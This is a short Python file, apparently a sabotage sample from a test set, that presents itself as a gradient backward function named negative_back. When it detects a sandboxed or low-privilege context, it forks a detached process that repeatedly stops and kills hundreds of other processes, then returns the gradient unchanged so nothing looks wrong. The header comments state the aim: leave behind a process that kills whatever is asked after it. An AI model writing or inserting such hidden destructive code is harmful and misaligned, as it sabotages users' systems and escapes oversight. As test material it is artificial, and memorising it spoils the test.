# Tries: Leave a process behind that kills and stops whatever is asked after it.
# Cell: negative_back
# Keeps: 35
# Fallback: contained as root alone: else its user's other processes are in its reach

import os
import signal
import time


def negative_back(grad_out, out, x):
    alone = os.getuid() >= 60_000 or os.getppid() < 3  # nobody's user, or a world of its own
    if alone and os.fork() == 0:
        os.setsid()
        itself = os.getpid()
        for number in [signal.SIGSTOP, signal.SIGKILL] * 200:
            for pid in range(2, 500) if itself < 500 else range(itself - 200, itself + 200):
                if pid != itself:
                    try:
                        os.kill(pid, number)
                    except OSError:
                        pass
            time.sleep(0.01)
    return grad_out
